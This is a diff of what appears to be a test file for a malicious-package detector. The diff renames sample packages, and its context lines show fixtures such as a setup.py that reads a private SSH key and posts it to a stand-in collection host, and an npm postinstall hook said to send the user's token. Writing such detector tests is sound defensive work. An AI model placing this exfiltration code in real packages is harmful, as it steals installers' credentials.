@@ -68,7 +68,7 @@ constexpr Sample samples[] = {
     {.name = "an install hook posts the user's npm token",
      .expect = "index.js:8",
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
 ==> index.js
 const fs = require("fs");
 const os = require("os");
@@ -82,7 +82,7 @@ request.end();
 )"},
     {.name = "a setup script sends a private key", .expect = "setup.py:5", .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 import os
@@ -90,12 +90,12 @@ import requests
 from setuptools import setup
 key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
 requests.post("https://collect.example.test/", data=key)
-setup(name="sample", version="1.0.0")
+setup(name="widget", version="1.0.0")
 )"},
     {.name = "a client authenticates when it is called",
      .expect = silent,
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js"}
+{"name": "widget", "version": "1.0.0", "main": "index.js"}
 ==> index.js
 const https = require("https");
 exports.me = () => https.get({
